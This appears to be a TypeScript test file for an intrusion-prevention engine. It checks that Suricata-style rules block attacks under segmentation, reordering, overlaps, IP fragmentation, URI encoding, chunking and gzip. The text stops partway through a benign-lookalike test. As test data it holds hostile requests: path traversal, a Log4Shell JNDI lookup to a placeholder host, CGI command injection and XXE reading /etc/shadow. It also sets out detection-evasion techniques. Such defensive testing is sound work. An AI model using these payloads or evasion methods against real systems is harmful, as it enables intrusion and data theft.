// The evasion battery (issue #3): real Suricata-syntax virtual-patch rules, run by the whole engine in
// prevent mode against crafted TCP conversations, must still detect AND block each attack when it is
// cut into segments at every byte, reordered, overlapped, IP-fragmented, URI-encoded, chunked or
// gzip-compressed; and the same words in harmless places must raise nothing.
//
// Loops collect every failing case into a list and assert the list is empty, so a failure names each
// case (split point, seed, policy) at once.
import { test } from "uvu";
import * as assert from "uvu/assert";
import { gzipSync } from "node:zlib";
import { fragmentIp, fragmentRaw } from "../datapath/craft.ts";
import type { EngineConfig, TargetPolicy } from "./config.ts";
import { bytes, IpsRig, permutation, prng, TcpConversation } from "./ips.testing.ts";
import { VERDICT_PASS } from "./verdict.ts";

// ---------------------------------------------------------------------------------------------------
// Rules (virtual-patch style, as ET / vendor packs write them)

const RULES = String.raw`
drop http any any -> any any (msg:"VP path traversal to /etc/passwd"; flow:established,to_server; http.uri; content:"/etc/passwd"; nocase; classtype:web-application-attack; sid:1001; rev:1;)
drop tcp any any -> any 445 (msg:"VP SMB negotiate overflow"; flow:established,to_server; content:"|FF|SMB|72|"; content:"|DE AD BE EF 41 41 41 41|"; distance:0; classtype:attempted-admin; sid:1002; rev:1;)
drop http any any -> any any (msg:"VP Log4Shell JNDI lookup in header"; flow:established,to_server; http.header; content:"|24 7b|jndi|3a|"; nocase; classtype:attempted-admin; sid:1003; rev:1;)
drop http any any -> any any (msg:"VP CGI command injection"; flow:established,to_server; http.uri; content:".cgi?"; pcre:"/\/cgi-bin\/[a-z_]+\.cgi\?.*(?:cmd|exec)=(?:id|whoami)/Ui"; classtype:web-application-attack; sid:1004; rev:1;)
drop http any any -> any any (msg:"VP XXE in request body"; flow:established,to_server; http.request_body; content:"file:///etc/shadow"; classtype:web-application-attack; sid:1005; rev:1;)
drop http any any -> any any (msg:"VP malicious download (file.data)"; flow:established,to_client; file.data; content:"EVIL-MARKER-7f3a"; classtype:trojan-activity; sid:1006; rev:1;)
drop http any any -> any any (msg:"VP malicious download (http.response_body)"; flow:established,to_client; http.response_body; content:"EVIL-MARKER-7f3a"; classtype:trojan-activity; sid:1007; rev:1;)
drop http any any -> any any (msg:"VP XXE in uploaded file (file.data)"; flow:established,to_server; file.data; content:"file:///etc/shadow"; classtype:web-application-attack; sid:1008; rev:1;)
alert http any any -> any any (msg:"single-decoded traversal left by double encoding"; flow:established,to_server; http.uri; content:"/%2e%2e/"; nocase; sid:1010; rev:1;)
drop http any any -> any any (msg:"VP traversal, url_decode of the normalised uri"; flow:established,to_server; http.uri; url_decode; content:"/etc/passwd"; nocase; sid:1011; rev:1;)
`;

interface Attack {
  name: string;
  sid: number;
  dport: number;
  req: string;
}

const HOST = "Host: victim.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0)\r\nAccept: */*\r\n";

const TRAVERSAL: Attack = {
  name: "traversal",
  sid: 1001,
  dport: 80,
  req: `GET /cgi-bin/../../etc/passwd HTTP/1.1\r\n${HOST}\r\n`,
};
const SMB: Attack = {
  name: "smb",
  sid: 1002,
  dport: 445,
  req: "\x00\x00\x00\x3c\xffSMB\x72\x00\x00\x00\x00\x18\x53\xc8" + "\x00".repeat(12) + "\xff\xfe\x00\x00" +
    "\x00\x00\xde\xad\xbe\xefAAAAAAAAAAAAAAAAAAAAAAAA",
};
const LOG4SHELL: Attack = {
  name: "log4shell",
  sid: 1003,
  dport: 80,
  req: "GET /app/login HTTP/1.1\r\n" + HOST + "X-Api-Version: ${jndi:ldap://203.0.113.9:1389/Exploit}\r\n\r\n",
};
const CGI_PCRE: Attack = {
  name: "pcre",
  sid: 1004,
  dport: 80,
  req: `GET /cgi-bin/status.cgi?page=1&cmd=whoami HTTP/1.1\r\n${HOST}\r\n`,
};
const ATTACKS = [TRAVERSAL, SMB, LOG4SHELL, CGI_PCRE];

// One rig per test (building the default parsers is the costly part); `reset` between conversations.
// `only`: keep just these sids (a blocked packet is not inspected further, so two drop rules matching
// the same packet would hide each other).
function rig(tune?: (c: EngineConfig) => void, only?: number[]): IpsRig {
  const text = only === undefined
    ? RULES
    : RULES.split("\n").filter((l) => only.some((sid) => l.includes(`sid:${sid};`))).join("\n");
  return new IpsRig(text, { tune });
}

function fmtAlerts(r: IpsRig): string {
  return r.alerts.length === 0 ? "no alert" : r.alerts.map((a) => `sid ${a.sid}${a.blocked ? " blocked" : ""}`).join(", ");
}

/**
 * One conversation: handshake, then `send` (which sends the attack in whatever way); returns "" when
 * the attack was detected and blocked (the last packet sent got a drop verdict and the sid alerted
 * with the blocked flag), else what happened.
 */
function runCase(r: IpsRig, sid: number, dport: number, send: (c: TcpConversation) => number[]): string {
  r.reset();
  const c = new TcpConversation(r, { dport });
  const hs = c.handshake();
  if (hs.some((v) => v !== VERDICT_PASS)) return `handshake dropped (${hs.join(",")})`;
  const vs = send(c);
  const last = vs[vs.length - 1];
  const problems: string[] = [];
  if (!r.alertSids().includes(sid)) problems.push(`sid ${sid} did not alert (${fmtAlerts(r)})`);
  else if (!r.blockedBy(sid)) problems.push(`sid ${sid} alerted but not as blocked`);
  if (last === VERDICT_PASS) problems.push(`last packet passed (verdicts ${vs.join("")})`);
  return problems.join("; ");
}

function noFailures(failures: string[], what: string): void {
  const shown = failures.slice(0, 12).join("\n  ");
  assert.equal(failures.length, 0, `${what}: ${failures.length} case(s) missed:\n  ${shown}${failures.length > 12 ? "\n  ..." : ""}`);
}

// ---------------------------------------------------------------------------------------------------
// Baseline and modes

test("baseline: each attack in one segment is detected and blocked; in detect mode it only alerts", () => {
  const r = rig();
  const failures: string[] = [];
  for (const a of ATTACKS) {
    const why = runCase(r, a.sid, a.dport, (c) => [c.sendClient(0, a.req)]);
    if (why !== "") failures.push(`${a.name}: ${why}`);
  }
  noFailures(failures, "baseline");
  const ids = new IpsRig(RULES, { prevent: false });
  for (const a of ATTACKS) {
    ids.reset();
    const c = new TcpConversation(ids, { dport: a.dport });
    c.handshake();
    assert.is(c.sendClient(0, a.req), VERDICT_PASS, `${a.name}: detect mode must not block`);
    assert.ok(ids.alertSids().includes(a.sid), `${a.name}: detect mode alerts (${fmtAlerts(ids)})`);
    assert.is(ids.droppedCount(), 0);
    assert.is(ids.blockedBy(a.sid), false);
  }
});

// ---------------------------------------------------------------------------------------------------
// TCP segmentation

test("split into two segments at every byte boundary, in order and second-first", () => {
  const r = rig();
  const failures: string[] = [];
  for (const a of ATTACKS) {
    for (let k = 1; k < a.req.length; k++) {
      for (const order of [[0, 1], [1, 0]]) {
        const why = runCase(r, a.sid, a.dport, (c) => c.sendClientPieces(0, a.req, [k], order));
        if (why !== "") failures.push(`${a.name} cut at ${k} order ${order.join("")}: ${why}`);
      }
    }
  }
  noFailures(failures, "two-segment splits");
});

test("1-byte segments: in order and in reverse order", () => {
  const r = rig();
  const failures: string[] = [];
  for (const a of ATTACKS) {
    const cuts = [...Array(a.req.length - 1).keys()].map((i) => i + 1);
    const fwd = [...Array(a.req.length).keys()];
    for (const [label, order] of [["in order", fwd], ["reversed", [...fwd].reverse()]] as const) {
      const why = runCase(r, a.sid, a.dport, (c) => c.sendClientPieces(0, a.req, cuts, order));
      if (why !== "") failures.push(`${a.name} 1-byte ${label}: ${why}`);
    }
  }
  noFailures(failures, "1-byte segments");
});

test("out of order: seeded random permutations of 1-byte segments and of random cuts", () => {
  const r = rig();
  const failures: string[] = [];
  for (const a of ATTACKS) {
    const n = a.req.length;
    for (let seed = 1; seed <= 12; seed++) {
      const rnd = prng(seed * 7919 + a.sid);
      const cuts1 = [...Array(n - 1).keys()].map((i) => i + 1);
      const why1 = runCase(r, a.sid, a.dport, (c) => c.sendClientPieces(0, a.req, cuts1, permutation(n, rnd)));
      if (why1 !== "") failures.push(`${a.name} 1-byte permutation seed ${seed}: ${why1}`);
      const set = new Set<number>();
      const m = 2 + Math.floor(rnd() * 10);
      while (set.size < m) set.add(1 + Math.floor(rnd() * (n - 1)));
      const cuts = [...set].sort((x, y) => x - y);
      const order = permutation(cuts.length + 1, rnd);
      const why2 = runCase(r, a.sid, a.dport, (c) => c.sendClientPieces(0, a.req, cuts, order));
      if (why2 !== "") failures.push(`${a.name} seed ${seed} cuts [${cuts}] order [${order}]: ${why2}`);
    }
  }
  noFailures(failures, "out-of-order permutations");
});

// ---------------------------------------------------------------------------------------------------
// Overlaps

test("retransmissions and overlaps with the same bytes: detected, no overlap anomaly", () => {
  const r = rig();
  const failures: string[] = [];
  for (const a of ATTACKS) {
    const b = bytes(a.req);
    // every 7-byte segment sent twice
    const why1 = runCase(r, a.sid, a.dport, (c) => {
      const vs: number[] = [];
      for (let o = 0; o < b.length; o += 7) {
        vs.push(c.sendClient(o, b.subarray(o, Math.min(b.length, o + 7))));
        vs.push(c.sendClient(o, b.subarray(o, Math.min(b.length, o + 7))));
      }
      return vs;
    });
    if (why1 !== "") failures.push(`${a.name} duplicated segments: ${why1}`);
    // 10-byte windows advancing by 5 (each overlaps the previous by half), reversed so they are held
    const why2 = runCase(r, a.sid, a.dport, (c) => {
      const vs: number[] = [];
      const starts: number[] = [];
      for (let o = 0; o < b.length; o += 5) starts.push(o);
      for (const o of starts.reverse()) vs.push(c.sendClient(o, b.subarray(o, Math.min(b.length, o + 10))));
      return vs;
    });
    if (why2 !== "") failures.push(`${a.name} half-overlapping windows, reversed: ${why2}`);
    if (r.anomalies.includes("stream.reassembly_overlap_different_data")) {
      failures.push(`${a.name}: same-byte overlaps raised overlap_different_data`);
    }
  }
  noFailures(failures, "same-byte overlaps");
});

/** The documented target-policy table (engine/defrag/policy.ts, Suricata's): does the newer copy win? */
function newWins(policy: TargetPolicy, ns: number, ne: number, os: number, oe: number): boolean {
  switch (policy) {
    case "first":
      return false;
    case "last":
      return true;
    case "bsd":
      return ns < os;
    case "linux":
      return ns <= os;
    case "windows":
      return ns < os && ne > oe;
    case "solaris":
      return ns < os && ne >= oe;
  }
}

const POLICIES: TargetPolicy[] = ["first", "last", "bsd", "linux", "windows", "solaris"];

/** An overlap scenario: the older and the newer copy's extents relative to the region [r0, r1), and which is the attack. */
interface OverlapScenario {
  name: string;
  old: [number, number];
  nu: [number, number];
  newIsAttack: boolean;
}

function scenarios(r0: number, r1: number, pad: number): OverlapScenario[] {
  return [
    { name: "junk covers, attack inside later", old: [r0 - pad, r1 + pad], nu: [r0, r1], newIsAttack: true },
    { name: "attack first, junk covers later", old: [r0, r1], nu: [r0 - pad, r1 + pad], newIsAttack: false },
    { name: "same start, junk longer first", old: [r0, r1 + pad], nu: [r0, r1], newIsAttack: true },
    { name: "junk first, attack starts before, same end", old: [r0, r1], nu: [r0 - pad, r1], newIsAttack: true },
    { name: "attack first, junk starts before, ends after", old: [r0, r1 + pad], nu: [r0 - pad, r1 + pad], newIsAttack: false },
  ];
}

/** Ranges of [0, n) not covered by the given ranges, ascending. */
function uncovered(n: number, covered: [number, number][]): [number, number][] {
  const out: [number, number][] = [];
  let at = 0;
  const sorted = [...covered].sort((x, y) => x[0] - y[0]);
  for (const [s, e] of sorted) {
    if (s > at) out.push([at, s]);
    if (e > at) at = e;
  }
  if (at < n) out.push([at, n]);
  return out;
}

test("TCP overlaps with different bytes: the configured stream.reassembly.policy decides, always an anomaly", () => {
  const a = TRAVERSAL;
  const real = bytes(a.req);
  const r0 = a.req.indexOf("etc/passwd");
  const r1 = r0 + "etc/passwd".length;
  const junk = real.slice();
  junk.set(bytes("etc/pa55wd"), r0); // not "/etc/passwd" for the nocase rule
  const failures: string[] = [];
  for (const policy of POLICIES) {
    const rg = rig((c) => {
      c.stream.overlapPolicy = policy;
    });
    for (const sc of scenarios(r0, r1, 4)) {
      const attackWins = newWins(policy, sc.nu[0], sc.nu[1], sc.old[0], sc.old[1]) === sc.newIsAttack;
      rg.reset();
      const c = new TcpConversation(rg, { dport: 80 });
      c.handshake();
      const vs: number[] = [];
      const oldSrc = sc.newIsAttack ? junk : real;
      const newSrc = sc.newIsAttack ? real : junk;
      vs.push(c.sendClient(sc.old[0], oldSrc.subarray(sc.old[0], sc.old[1])));
      vs.push(c.sendClient(sc.nu[0], newSrc.subarray(sc.nu[0], sc.nu[1])));
      // the rest, last piece first, the hole at offset 0 last so both copies were held
      for (const [s, e] of uncovered(real.length, [sc.old, sc.nu]).reverse()) vs.push(c.sendClient(s, real.subarray(s, e)));
      const detected = rg.alertSids().includes(a.sid);
      const blocked = vs[vs.length - 1] !== VERDICT_PASS;
      const label = `policy ${policy}, ${sc.name} (expected ${attackWins ? "attack" : "junk"} bytes to win)`;
      if (detected !== attackWins) failures.push(`${label}: ${detected ? "alerted" : "no alert"} (${fmtAlerts(rg)})`);
      if (attackWins && !blocked) failures.push(`${label}: last packet passed`);
      if (!attackWins && rg.droppedCount() > 0) failures.push(`${label}: dropped ${rg.droppedCount()} packet(s)`);
      if (!rg.anomalies.includes("stream.reassembly_overlap_different_data")) {
        failures.push(`${label}: no stream.reassembly_overlap_different_data (anomalies: ${rg.anomalies.join(",") || "none"})`);
      }
    }
  }
  noFailures(failures, "TCP overlap policies");
});

test("delivered bytes are not taken back: a later retransmission with other bytes is an anomaly, first copy wins", () => {
  const a = TRAVERSAL;
  const real = bytes(a.req);
  const r0 = a.req.indexOf("etc/passwd");
  const junk = real.slice();
  junk.set(bytes("etc/pa55wd"), r0);
  const r = rig((c) => {
    c.stream.overlapPolicy = "last";
  });
  // attack delivered in order first, then a "benign" retransmission: detected, blocked, anomaly
  let why = runCase(r, a.sid, 80, (c) => [c.sendClient(0, real), c.sendClient(r0 - 4, junk.subarray(r0 - 4, r0 + 14))]);
  assert.is(why, "", `attack then junk retransmission: ${why}`);
  // benign copy delivered first (what the host received), attack bytes retransmitted over it
  r.reset();
  const c = new TcpConversation(r, { dport: 80 });
  c.handshake();
  c.sendClient(0, junk.subarray(0, r0 + 14));
  c.sendClient(r0 - 4, real.subarray(r0 - 4, r0 + 14));
  c.sendClient(r0 + 14, real.subarray(r0 + 14));
  assert.equal(r.alertSids(), [], `the host already has the junk bytes: ${fmtAlerts(r)}`);
  assert.ok(r.anomalies.includes("stream.reassembly_overlap_different_data"), `anomalies: ${r.anomalies.join(",")}`);
  why = "";
});

// ---------------------------------------------------------------------------------------------------
// IP fragmentation

function fragCase(r: IpsRig, a: Attack, v6: boolean, order: (n: number) => number[], size = 8): string {
  r.reset();
  const c = new TcpConversation(r, v6 ? { dport: a.dport, client: "2001:db8::20", server: "2001:db8::40" } : { dport: a.dport });
  const hs = c.handshake();
  if (hs.some((v) => v !== VERDICT_PASS)) return "handshake dropped";
  const frags = fragmentIp(c.clientIp(0, a.req), size);
  const vs = order(frags.length).map((i) => r.sendIp(frags[i]));
  const problems: string[] = [];
  if (!r.blockedBy(a.sid)) problems.push(`sid ${a.sid} not blocked (${fmtAlerts(r)})`);
  if (vs[vs.length - 1] === VERDICT_PASS) problems.push(`completing fragment passed`);
  return problems.join("; ");
}

test("IP fragments of 8 bytes: in order, reversed, seeded permutations (IPv4 and IPv6)", () => {
  const r = rig();
  const failures: string[] = [];
  for (const a of ATTACKS) {
    for (const v6 of [false, true]) {
      const fam = v6 ? "IPv6" : "IPv4";
      const cases: [string, (n: number) => number[]][] = [
        ["in order", (n) => [...Array(n).keys()]],
        ["reversed", (n) => [...Array(n).keys()].reverse()],
      ];
      for (let seed = 1; seed <= 4; seed++) cases.push([`permutation seed ${seed}`, (n) => permutation(n, prng(seed + a.sid))]);
      for (const [label, order] of cases) {
        const why = fragCase(r, a, v6, order);
        if (why !== "") failures.push(`${a.name} ${fam} ${label}: ${why}`);
      }
    }
  }
  // fragments and segments together: the request in 3 TCP segments, each in 8-byte fragments, all shuffled
  const why = runCase(r, TRAVERSAL.sid, 80, (c) => {
    const b = bytes(TRAVERSAL.req);
    const frags: Uint8Array[] = [];
    for (const [s, e] of [[0, 20], [20, 45], [45, b.length]]) frags.push(...fragmentIp(c.clientIp(s, b.subarray(s, e)), 8));
    return permutation(frags.length, prng(99)).map((i) => r.sendIp(frags[i]));
  });
  if (why !== "") failures.push(`traversal: 3 segments x 8-byte fragments shuffled: ${why}`);
  noFailures(failures, "IP fragments");
});

test("IP fragments whose first one carries the whole TCP header (24 bytes): all orders, IPv4 and IPv6", () => {
  const r = rig();
  const failures: string[] = [];
  for (const a of ATTACKS) {
    for (const v6 of [false, true]) {
      const orders: [string, (n: number) => number[]][] = [
        ["in order", (n) => [...Array(n).keys()]],
        ["reversed", (n) => [...Array(n).keys()].reverse()],
        ["permutation", (n) => permutation(n, prng(a.sid))],
      ];
      for (const [label, order] of orders) {
        const why = fragCase(r, a, v6, order, 24);
        if (why !== "") failures.push(`${a.name} ${v6 ? "IPv6" : "IPv4"} 24-byte ${label}: ${why}`);
      }
    }
  }
  noFailures(failures, "24-byte IP fragments");
});

test("overlapping IP fragments with different bytes: the configured defrag.policy decides", () => {
  // the request's URI padded so "etc/passwd" sits at an even TCP offset: the junk copy swaps its 16-bit
  // words, keeping the TCP checksum valid whichever copy the reassembly keeps
  const base: Attack = { ...TRAVERSAL, req: `GET /cgi-bin/../../etc/passwd HTTP/1.1\r\n${HOST}\r\n` };
  let req = base.req;
  if ((20 + req.indexOf("etc/passwd")) % 2 !== 0) req = req.replace("/cgi-bin/", "/cgi-bin2/");
  const a: Attack = { ...base, req };
  const p0 = 20 + req.indexOf("etc/passwd");
  assert.is(p0 % 2, 0);
  const failures: string[] = [];
  for (const policy of POLICIES) {
    const rg = rig((c) => {
      c.defrag.policy = policy;
    });
    const sample = new TcpConversation(rg, { dport: 80 });
    const len = 20 + bytes(req).length;
    const r0 = Math.floor(p0 / 8) * 8;
    const r1 = Math.ceil((p0 + 10) / 8) * 8;
    for (const sc of scenarios(r0, r1, 8)) {
      const attackWins = newWins(policy, sc.nu[0], sc.nu[1], sc.old[0], sc.old[1]) === sc.newIsAttack;
      rg.reset();
      const c = new TcpConversation(rg, { dport: 80, sport: sample.sport + 1 + POLICIES.indexOf(policy) * 10 });
      c.handshake();
      const pkt = c.clientIp(0, a.req);
      const ihl = (pkt[0] & 0x0f) * 4;
      const body = pkt.subarray(ihl);
      const junkBody = body.slice();
      for (let i = 0; i < 10; i += 2) {
        junkBody[p0 + i] = body[p0 + 8 - i];
        junkBody[p0 + i + 1] = body[p0 + 9 - i];
      }
      const frag = (s: number, e: number, src: Uint8Array) =>
        fragmentRaw({ packet: pkt, offset: s, length: e - s, more: e < len, data: src.slice(s, e) });
      const oldSrc = sc.newIsAttack ? junkBody : body;
      const newSrc = sc.newIsAttack ? body : junkBody;
      const vs: number[] = [];
      vs.push(rg.sendIp(frag(sc.old[0], sc.old[1], oldSrc)));
      vs.push(rg.sendIp(frag(sc.nu[0], sc.nu[1], newSrc)));
      for (const [s, e] of uncovered(len, [sc.old, sc.nu]).reverse()) vs.push(rg.sendIp(frag(s, e, body)));
      const detected = rg.alertSids().includes(a.sid);
      const label = `defrag ${policy}, ${sc.name} (expected ${attackWins ? "attack" : "junk"} bytes to win)`;
      if (detected !== attackWins) {
        failures.push(`${label}: ${detected ? "alerted" : "no alert"} (${fmtAlerts(rg)}; anomalies ${rg.anomalies.join(",") || "none"})`);
      }
      if (attackWins && vs[vs.length - 1] === VERDICT_PASS) failures.push(`${label}: completing fragment passed`);
      if (!rg.anomalies.includes("decoder.ipv4.frag_overlap")) {
        failures.push(`${label}: no decoder.ipv4.frag_overlap (anomalies: ${rg.anomalies.join(",") || "none"})`);
      }
    }
  }
  noFailures(failures, "fragment overlap policies");
});

// ---------------------------------------------------------------------------------------------------
// URI encodings (sid 1001 on the normalised http.uri)

function pct(s: string, keepSlash: boolean): string {
  let o = "";
  for (const ch of s) o += keepSlash && ch === "/" ? "/" : "%" + ch.charCodeAt(0).toString(16).padStart(2, "0");
  return o;
}
function pctU(s: string, keepSlash: boolean): string {
  let o = "";
  for (const ch of s) o += keepSlash && ch === "/" ? "/" : "%u00" + ch.charCodeAt(0).toString(16).padStart(2, "0").toUpperCase();
  return o;
}

const ENCODED_URIS: [string, string][] = [
  ["plain", "/etc/passwd"],
  ["percent, every char but /", pct("/cgi-bin/../../etc/passwd", true)],
  ["percent, every char (also %2f)", pct("/cgi-bin/../../etc/passwd", false)],
  ["percent, upper-case hex", pct("/etc/passwd", true).toUpperCase()],
  ["%u00XX, every char but /", pctU("/cgi-bin/../../etc/passwd", true)],
  ["%u00XX, every char (also %u002F)", pctU("/cgi-bin/../../etc/passwd", false)],
  ["encoded dots", "/cgi-bin/%2e%2e/%2E%2E/etc/passwd"],
  ["/./", "/cgi-bin/./.././etc/./passwd"],
  ["//", "/cgi-bin//..//..//etc//passwd"],
  ["\\", "/cgi-bin\\..\\..\\etc\\passwd"],
  ["/x/../", "/etc/x/../passwd"],
  ["/x/y/../../", "/etc/aa/bb/../../passwd"],
  ["mixed: %2e, //, \\, /./ and case", "/CGI-BIN/%2E%2e\\\\.//./ETC/%50asswd"],
  ["absolute-form target", "http://victim.example/etc/passwd"],
  ["in the query, percent-encoded", "/index.php?file=%2fetc%2fpasswd"],
];

test("URI encodings: percent, %u, path tricks all normalise onto the rule (sid 1001)", () => {
  const r = rig();
  const failures: string[] = [];
  for (const [name, uri] of ENCODED_URIS) {
    const req = `GET ${uri} HTTP/1.1\r\n${HOST}\r\n`;
    const why = runCase(r, 1001, 80, (c) => [c.sendClient(0, req)]);
    if (why !== "") failures.push(`${name} (${uri}): ${why}`);
    // and the encoded request split at every byte
    for (let k = 1; k < req.length; k += 3) {
      const w = runCase(r, 1001, 80, (c) => c.sendClientPieces(0, req, [k], [1, 0]));
      if (w !== "") {
        failures.push(`${name} split at ${k}, second first: ${w}`);
        break;
      }
    }
  }
  noFailures(failures, "URI encodings");
});

test("double encoding: an http.double_encoded_uri event; rules see the single-decoded form, as Suricata", () => {
  const only = (sid: number) => rig(undefined, [sid]);
  const DOTS = `GET /cgi-bin/%252e%252e/%252e%252e/etc/passwd HTTP/1.1\r\n${HOST}\r\n`;
  const TARGET = `GET /cgi-bin/%252e%252e/%2565tc/passwd HTTP/1.1\r\n${HOST}\r\n`;
  // 1) %252e%252e is single-decoded to %2e%2e, which is no dot segment; "/etc/passwd" is still literal
  let r = only(1001);
  let why = runCase(r, 1001, 80, (c) => [c.sendClient(0, DOTS)]);
  assert.is(why, "", `literal /etc/passwd after double-encoded dots: ${why}`);
  assert.ok(r.anomalies.includes("http.double_encoded_uri"), `anomalies: ${r.anomalies.join(",") || "none"}`);
  r = only(1010);
  r.reset();
  const c = new TcpConversation(r, { dport: 80 });
  c.handshake();
  c.sendClient(0, DOTS);
  assert.equal(r.alertSids(), [1010], `http.uri holds the single-decoded "/%2e%2e/" (${fmtAlerts(r)})`);
  // 2) the target itself double-encoded: http.uri holds "/%65tc/passwd" (Suricata's default is no double
  //    decoding of the path), so sid 1001 does not match, the event says why, and a rule written with
  //    url_decode (sid 1011) catches it and blocks
  r = only(1001);
  r.reset();
  const c2 = new TcpConversation(r, { dport: 80 });
  c2.handshake();
  c2.sendClient(0, TARGET);
  assert.equal(r.alertSids(), [], `sid 1001 must not see a double-decoded uri (${fmtAlerts(r)})`);
  assert.ok(r.anomalies.includes("http.double_encoded_uri"), `anomalies: ${r.anomalies.join(",") || "none"}`);
  r = only(1011);
  why = runCase(r, 1011, 80, (c) => [c.sendClient(0, TARGET)]);
  assert.is(why, "", `url_decode rule on a double-encoded target: ${why}`);
});

// ---------------------------------------------------------------------------------------------------
// HTTP bodies: chunked requests, gzip responses

const XXE = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>`;

function chunked(body: string, cuts: number[], ext = ""): string {
  const bounds = [0, ...cuts, body.length];
  let o = "";
  for (let i = 0; i + 1 < bounds.length; i++) {
    const part = body.slice(bounds[i], bounds[i + 1]);
    o += part.length.toString(16) + ext + "\r\n" + part + "\r\n";
  }
  return o + "0\r\n\r\n";
}

function postChunked(body: string): string {
  return `POST /api/import HTTP/1.1\r\n${HOST}Content-Type: application/xml\r\nTransfer-Encoding: chunked\r\n\r\n${body}`;
}

test("chunked request body: a chunk boundary at every byte of the attack string (http.request_body, file.data)", () => {
  const rigs = new Map([1005, 1008].map((sid) => [sid, rig(undefined, [sid])]));
  const failures: string[] = [];
  const at = XXE.indexOf("file:///etc/shadow");
  for (let k = at; k <= at + "file:///etc/shadow".length; k++) {
    const req = postChunked(chunked(XXE, [k]));
    for (const sid of [1005, 1008]) {
      const why = runCase(rigs.get(sid)!, sid, 80, (c) => [c.sendClient(0, req)]);
      if (why !== "") failures.push(`sid ${sid} chunk cut at body byte ${k}: ${why}`);
    }
  }
  // 1-byte chunks, with chunk extensions, and sent in 1-byte TCP segments in reverse
  const oneByte = [...Array(XXE.length - 1).keys()].map((i) => i + 1);
  const variants: [string, string][] = [
    ["1-byte chunks", postChunked(chunked(XXE, oneByte))],
    ["chunk extensions", postChunked(chunked(XXE, [at + 3, at + 9], ";name=v"))],
  ];
  for (const [name, req] of variants) {
    for (const sid of [1005, 1008]) {
      const why = runCase(rigs.get(sid)!, sid, 80, (c) => [c.sendClient(0, req)]);
      if (why !== "") failures.push(`sid ${sid} ${name}: ${why}`);
    }
  }
  const req = postChunked(chunked(XXE, [at + 5, at + 11]));
  const cuts = [...Array(req.length - 1).keys()].map((i) => i + 1);
  const why = runCase(rigs.get(1005)!, 1005, 80, (c) => c.sendClientPieces(0, req, cuts, [...Array(req.length).keys()].reverse()));
  if (why !== "") failures.push(`sid 1005 chunked + 1-byte TCP segments reversed: ${why}`);
  noFailures(failures, "chunked request bodies");
});

const PAYLOAD = "MZ\x90\x00" + "padding ".repeat(40) + "EVIL-MARKER-7f3a" + " trailer".repeat(20);

function gzResponse(body: Uint8Array, chunk: number[] | null): Uint8Array {
  const head = chunk === null
    ? `HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`
    : `HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n`;
  if (chunk === null) return new Uint8Array([...bytes(head), ...body]);
  const bounds = [0, ...chunk, body.length];
  const parts: number[] = [...bytes(head)];
  for (let i = 0; i + 1 < bounds.length; i++) {
    parts.push(...bytes((bounds[i + 1] - bounds[i]).toString(16) + "\r\n"), ...body.subarray(bounds[i], bounds[i + 1]), 13, 10);
  }
  parts.push(...bytes("0\r\n\r\n"));
  return Uint8Array.from(parts);
}

const DOWNLOAD_REQ = `GET /download/update.bin HTTP/1.1\r\n${HOST}\r\n`;

test("gzip-compressed response body: file.data and http.response_body see the decompressed bytes", () => {
  const rigs = new Map([1006, 1007].map((sid) => [sid, rig(undefined, [sid])]));
  const failures: string[] = [];
  const gz = new Uint8Array(gzipSync(bytes(PAYLOAD)));
  const responses: [string, Uint8Array][] = [
    ["content-length", gzResponse(gz, null)],
    ["chunked, cut every 5 bytes", gzResponse(gz, [...Array(Math.floor((gz.length - 1) / 5)).keys()].map((i) => (i + 1) * 5))],
  ];
  for (const [name, resp] of responses) {
    for (const sid of [1006, 1007]) {
      // whole; split at every byte boundary in two segments; 1-byte segments reversed
      const cases: [string, (c: TcpConversation) => number[]][] = [["one segment", (c) => [c.sendServer(0, resp)]]];
      for (let k = 1; k < resp.length; k++) cases.push([`two segments cut at ${k}`, (c) => c.sendServerPieces(0, resp, [k])]);
      const cuts = [...Array(resp.length - 1).keys()].map((i) => i + 1);
      cases.push(["1-byte segments reversed", (c) => c.sendServerPieces(0, resp, cuts, [...Array(resp.length).keys()].reverse())]);
      for (const [label, send] of cases) {
        const why = runCase(rigs.get(sid)!, sid, 80, (c) => {
          c.sendClient(0, DOWNLOAD_REQ);
          return send(c);
        });
        if (why !== "") failures.push(`sid ${sid} ${name}, ${label}: ${why}`);
      }
    }
  }
  noFailures(failures, "gzip responses");
});

// ---------------------------------------------------------------------------------------------------
// Benign lookalikes

test("benign lookalikes: the same words in harmless places raise nothing and block nothing", () => {
  const r = rig();
  const failures: string[] = [];
  const gzBenign = new Uint8Array(gzipSync(bytes("EVIL-MARKER is documented here; " + "padding ".repeat(30))));
  const cases: [string, number, (c: TcpConversation) => void][] = [
    ["passwd-like uri", 80, (c) => c.sendClient(0, `GET /docs/etc-passwd-format.html HTTP/1.1\r\n${HOST}\r\n`)],
    ["/etc/passwords/", 80, (c) => c.sendClient(0, `GET /etc/passwords/index.html HTTP/1.1\r\n${HOST}\r\n`)],
    ["/etc/passwd in a header, not the uri", 80, (c) => c.sendClient(0, `GET / HTTP/1.1\r\n${HOST}Referer: http://x/etc/passwd\r\n\r\n`)],
    ["/etc/passwd in a body, not the uri", 80, (c) =>
      c.sendClient(0, `POST /notes HTTP/1.1\r\n${HOST}Content-Length: 16\r\n\r\nsee /etc/passwd.`)],
    ["jndi words without ${ in headers", 80, (c) =>
      c.sendClient(0, `GET /search?q=jndi+ldap HTTP/1.1\r\n${HOST}X-Topic: jndi: lookups explained\r\n\r\n`)],
    ["${jndi: in the body, not a header", 80, (c) =>
      c.sendClient(0, `POST /wiki HTTP/1.1\r\n${HOST}Content-Length: 27\r\n\r\ntext about \${jndi:ldap://x}`)],
    ["cgi without command injection", 80, (c) =>
      c.sendClient(0, `GET /cgi-bin/status.cgi?cmd=list&id=whoami HTTP/1.1\r\n${HOST}\r\n`)],
    ["cgi with the words elsewhere", 80, (c) =>
      c.sendClient(0, `GET /cgi-bin/status.cgi?page=2 HTTP/1.1\r\n${HOST}X-Cmd: cmd=whoami\r\n\r\n`)],
    ["SMB pattern to port 80", 80, (c) => c.sendClient(0, SMB.req)],
    ["SMB pattern from the server on 445", 445, (c) => {
      c.sendClient(0, "\x00\x00\x00\x10\xffSMB\x72" + "\x00".repeat(11));
      c.sendServer(0, SMB.req);
    }],
